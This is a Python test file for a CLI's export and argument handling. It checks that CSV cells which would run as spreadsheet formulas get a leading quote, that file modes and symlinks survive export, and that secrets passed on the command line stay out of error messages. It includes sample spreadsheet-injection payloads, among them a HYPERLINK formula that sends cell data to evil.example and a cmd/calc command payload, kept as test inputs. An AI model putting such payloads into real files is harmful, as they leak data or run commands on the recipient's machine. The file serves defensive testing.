"""The CLI against hostile data and careless arguments (reliability review M3, L7, L8).

- M3: CSV cells that a spreadsheet would run as a formula (= + - @ tab CR first) are written
  with a leading ``'``; numbers and JSON cells are unchanged.
- L7: ``-o FILE`` keeps an existing file's mode (a 0600 export stays 0600) and writes through
  a symlink to its target (the link stays a link).
- L8: no error line repeats a value from argv (a token typed in the wrong place must not end
  up on stderr); a Redis URL with a password is refused on argv (``ps`` shows it) and taken
  from ``TALLYFY_REDIS_URL`` or ``--redis-url-file``.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from aiotallyfy.cli import amain
from aiotallyfy.cli._args import parse_args
from aiotallyfy.cli._export import CSV_COLUMNS, AtomicOutput, CsvWriter
from aiotallyfy.testing import FakeTallyfy

pytestmark = pytest.mark.virtual_time

SECRET = "PAT-sEcReT-0123456789abcdef"
# Port 9 on loopback (discard): a request would fail fast, never reach the internet.
OFFLINE = {"TALLYFY_API_TOKEN": "t0k", "TALLYFY_BASE_URL": "http://127.0.0.1:9/api"}


async def run_cli(argv: list[str], env: dict[str, str]) -> tuple[int, bytes, str]:
    out, err = io.BytesIO(), io.StringIO()
    code = await amain(argv, environ=env, stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


# ------------------------------------------------------------------ M3: formula injection
HOSTILE_TITLES = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Plain title": "Plain title",
    "a=1": "a=1",
    "": "",
}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert tuple(table[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in table[1:]]


def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    out = io.BytesIO()
    writer = CsvWriter(out)
    writer.write_page(
        "org1",
        [
            {"id": "=id", "title": title, "status": "@status", "position": -3,
             "problem": False, "owners": {"users": [-1]}, "taskdata": ["=x"],
             "deadline": "-", "increment_id": 1.5}
            for title in HOSTILE_TITLES
        ],
    )  # fmt: skip
    writer.finish()
    rows = csv_rows(out.getvalue())
    assert [r["title"] for r in rows] == list(HOSTILE_TITLES.values())
    first = rows[0]
    assert (first["id"], first["status"], first["deadline"]) == ("'=id", "'@status", "'-")
    # numbers are numbers, JSON cells start with { or [ and booleans are words: unchanged
    assert (first["position"], first["increment_id"], first["problem"]) == ("-3", "1.5", "false")
    assert (first["owners"], first["taskdata"]) == ('{"users":[-1]}', '["=x"]')


async def test_csv_export_of_hostile_titles_end_to_end(tmp_path: Path) -> None:
    async with FakeTallyfy(orgs=1, tasks_per_org=len(HOSTILE_TITLES)) as fake:
        org = fake.data.org_ids[0]
        state = fake.data.org_state(org)
        assert state is not None
        for i, title in enumerate(HOSTILE_TITLES):
            state.overlay[i] = {"title": title}
        out = tmp_path / "tasks.csv"
        env = {"TALLYFY_BASE_URL": fake.base_url, "TALLYFY_API_TOKEN": fake.token}
        code, _, err = await run_cli(
            ["-q", "tasks", "--org", org, "--format", "csv", "-o", str(out)], env
        )
        assert (code, err) == (0, "")
        expected = {fake.data.task_ids(org)[i]: v for i, v in enumerate(HOSTILE_TITLES.values())}
    rows = csv_rows(out.read_bytes())
    assert {r["id"]: r["title"] for r in rows} == expected


# ------------------------------------------------------------------ L7: mode and symlinks
def test_atomic_output_keeps_a_private_files_mode(tmp_path: Path) -> None:
    target = tmp_path / "private.jsonl"
    target.write_bytes(b"old\n")
    target.chmod(0o600)
    with AtomicOutput(target) as out:
        assert stat.S_IMODE(os.fstat(out.file.fileno()).st_mode) == 0o600  # from the start
        out.file.write(b"new\n")
        out.commit()
    assert target.read_bytes() == b"new\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    target.chmod(0o640)
    with AtomicOutput(target) as out:
        out.commit()
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_atomic_output_new_file_follows_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        with AtomicOutput(tmp_path / "new.jsonl") as out:
            out.commit()
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.jsonl").stat().st_mode) == 0o640


def test_atomic_output_writes_through_a_symlink(tmp_path: Path) -> None:
    real_dir = tmp_path / "real"
    real_dir.mkdir()
    real = real_dir / "export.jsonl"
    real.write_bytes(b"old\n")
    real.chmod(0o600)
    link = tmp_path / "latest.jsonl"
    link.symlink_to(real)
    with AtomicOutput(link) as out:
        out.file.write(b"new\n")
        out.commit()
    assert link.is_symlink()
    assert os.readlink(link) == str(real)
    assert real.read_bytes() == b"new\n"
    assert stat.S_IMODE(real.stat().st_mode) == 0o600
    assert sorted(p.name for p in real_dir.iterdir()) == ["export.jsonl"]  # no temp left
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latest.jsonl", "real"]
    # a dangling link: the export creates the file it names
    gone = tmp_path / "gone.jsonl"
    gone.symlink_to(real_dir / "later.jsonl")
    with AtomicOutput(gone) as out:
        out.file.write(b"x\n")
        out.commit()
    assert gone.is_symlink()
    assert (real_dir / "later.jsonl").read_bytes() == b"x\n"


async def test_cli_export_through_symlink_keeps_link_and_mode(tmp_path: Path) -> None:
    real = tmp_path / "real.jsonl"
    real.write_bytes(b"")
    real.chmod(0o600)
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    async with FakeTallyfy(orgs=1, tasks_per_org=3) as fake:
        env = {"TALLYFY_BASE_URL": fake.base_url, "TALLYFY_API_TOKEN": fake.token}
        code, _, err = await run_cli(["-q", "tasks", "--all-orgs", "-o", str(link)], env)
    assert (code, err) == (0, "")
    assert link.is_symlink()
    assert len(real.read_bytes().splitlines()) == 3
    assert stat.S_IMODE(real.stat().st_mode) == 0o600


# ------------------------------------------------------------------ L8: argv values on stderr
LEAKY_ARGV: list[tuple[list[str], str]] = [
    ([SECRET, "tasks"], "argument COMMAND: invalid choice"),
    (["--token-file=" + SECRET, "me"], "cannot read --token-file"),
    (["--token-file", SECRET, "me"], "cannot read --token-file"),
    (["--concurrency", SECRET, "me"], "argument --concurrency: expected a whole number"),
    (["--concurrency=-" + SECRET, "me"], "argument --concurrency: expected a whole number"),
    (["--timeout", SECRET, "me"], "argument --timeout: expected a number of seconds"),
    (["--rate", SECRET, "me"], "argument --rate: expected N/SECONDS such as 600/60"),
    (["--org-rate", SECRET, "me"], "argument --org-rate: expected N/SECONDS"),
    (["--max-retries", SECRET, "me"], "argument --max-retries: expected a whole number"),
    (["-q=" + SECRET, "me"], "argument -q/--quiet"),
    (["tasks", "--org", "a/" + SECRET], "--org"),
    (["tasks", "--all-orgs", "--format", SECRET], "argument --format: invalid choice"),
    (["tasks", "--all-orgs", SECRET], "unrecognized arguments"),
    (["demo", "--orgs", SECRET], "argument --orgs: expected a whole number"),
    (["demo", "--seed", SECRET], "argument --seed"),
    (["demo", "--fault-rate", SECRET], "argument --fault-rate"),
    (["fake-server", "--rate-limit", SECRET], "argument --rate-limit"),
    (["fake-server", "--port", SECRET], "argument --port"),
    (["--base-url", SECRET, "me"], "base"),
]


@pytest.mark.parametrize(
    ("argv", "names"), LEAKY_ARGV, ids=[" ".join(a)[:40] for a, _ in LEAKY_ARGV]
)
async def test_error_lines_name_the_option_never_its_value(argv: list[str], names: str) -> None:
    code, out, err = await run_cli(argv, dict(OFFLINE))
    assert code == 2
    assert out == b""
    assert SECRET not in err
    assert SECRET.lower() not in err.lower()
    assert names in err
    assert err.startswith("aiotallyfy: error: ")
    assert err.count("\n") == 1


def _args(**values: Any) -> argparse.Namespace:
    return argparse.Namespace(**{"redis_url": None, "redis_url_file": None, **values})


@pytest.mark.parametrize(
    "url",
    [
        f"redis://:{SECRET}@127.0.0.1:6379/0",
        f"redis://user:{SECRET}@127.0.0.1/0",
        f"rediss://default:{SECRET}@127.0.0.1:6380",
        f"redis://127.0.0.1/0?password={SECRET}",
        f"unix://:{SECRET}@/run/redis.sock?db=0",
    ],
)
async def test_redis_url_with_password_refused_on_argv(url: str) -> None:
    for argv in (["--redis-url", url, "me"], [f"--redis-url={url}", "me"]):
        code, out, err = await run_cli(argv, dict(OFFLINE))
        assert (code, out) == (2, b"")
        assert SECRET not in err
        assert "--redis-url" in err
        assert "TALLYFY_REDIS_URL" in err
        assert "--redis-url-file" in err


def test_redis_url_sources(tmp_path: Path) -> None:
    from aiotallyfy.cli._credentials import resolve_redis_url  # added with --redis-url-file

    with_password = f"redis://:{SECRET}@127.0.0.1:6379/0"
    # no password: still fine on argv
    args = parse_args(["--redis-url", "redis://127.0.0.1:6379/1", "me"])
    assert resolve_redis_url(args, {}) == "redis://127.0.0.1:6379/1"
    # the environment and a file may hold a password
    assert resolve_redis_url(_args(), {"TALLYFY_REDIS_URL": f" {with_password}\n"}) == (
        with_password
    )
    url_file = tmp_path / "redis-url"
    url_file.write_text(with_password + "\n")
    args = parse_args(["--redis-url-file", str(url_file), "me"])
    assert resolve_redis_url(args, {"TALLYFY_REDIS_URL": "redis://other/0"}) == with_password
    assert resolve_redis_url(_args(), {}) is None
    with pytest.raises(Exception, match="not allowed with argument") as info:
        parse_args(["--redis-url", "redis://h/0", "--redis-url-file", str(url_file), "me"])
    assert SECRET not in str(info.value)


async def test_unreadable_redis_url_file_names_the_option_only(tmp_path: Path) -> None:
    for argv in (
        ["--redis-url-file", SECRET, "me"],
        ["--redis-url-file=" + str(tmp_path / SECRET), "me"],
    ):
        code, _, err = await run_cli(argv, dict(OFFLINE))
        assert code == 2
        assert "cannot read --redis-url-file" in err
        assert SECRET not in err
